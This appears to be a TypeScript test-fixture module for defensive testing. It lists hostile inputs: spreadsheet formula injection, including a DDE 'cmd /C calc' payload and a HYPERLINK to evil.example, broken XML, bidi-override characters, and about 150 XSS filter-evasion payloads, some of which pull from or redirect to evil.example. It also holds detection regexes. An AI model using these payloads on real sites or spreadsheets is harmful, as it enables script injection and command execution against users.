/* Text that means harm, and what of it no file may hold. */

/** Texts that a spreadsheet, a browser, an XML reader or a reader of right-to-left text might fall for. */
export const HOSTILE = [
  '=1+1',
  '\u202e=1+1',
  '\0=HYPERLINK("https://evil.example","x")',
  '@SUM(A1)',
  '\t-2+3+cmd|" /C calc"!A0',
  '＝1',
  '<script>alert(1)</script>',
  ']]></t></is></c><c><f>1+1</f></c>',
  '"><img src=x onerror=alert(1)>',
  '&amp;&#x202e;',
  '_x003D_1+1 _x000D_',
  'a,"b"\r\n=c',
  '\ud800 half',
  '{"@id":"evil"}',
  '</script><!--',
  `${'x'.repeat(60)}ER  - \r\nER  - \r\nTY  - BOOK`,
  'معبد\u200f بل\u2067',
]

/** Controls that XML cannot hold and characters that turn the direction of a text around. */
export const FORBIDDEN =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202a-\u202e\u2066-\u2069\ufffe\uffff]/

/** Text that a spreadsheet takes for a formula. */
export const RUN_BY_SPREADSHEETS = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/

/** What ends the place in a page that a text may stand in. */
const ENDS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</option></select>',
  '\\u003c/script>',
]
/** What may then follow; an element or attribute called `x5s` is the mark of one that went through. */
const THEN = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<x5s onmouseover=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<style>@import "//evil.example/x5s"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>x',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
]
/** About 150 texts by which scripts have been got into pages (OWASP filter evasion, and what Markdown and React render). */
export const XSS: readonly string[] = [
  ...ENDS.flatMap((end) => THEN.map((then) => end + then)),
  '" x5s="1',
  "' x5s='1",
  '" autofocus onfocus=alert(1) x5s="',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[x](javascript:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[x]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\x3cscript\\x3ealert(1)',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as somebody would type it.
  '${alert(1)}',
  '\u2028alert(1)\u2029',
]

/** The same texts, each piece as long as a short field takes. */
export function inPieces(texts: readonly string[], most: number): string[] {
  const pieces: string[] = []
  for (const text of texts) {
    const last = pieces.at(-1)
    if (last !== undefined && last.length + text.length < most)
      pieces[pieces.length - 1] = `${last} ${text}`
    else pieces.push(text)
  }
  return pieces
}
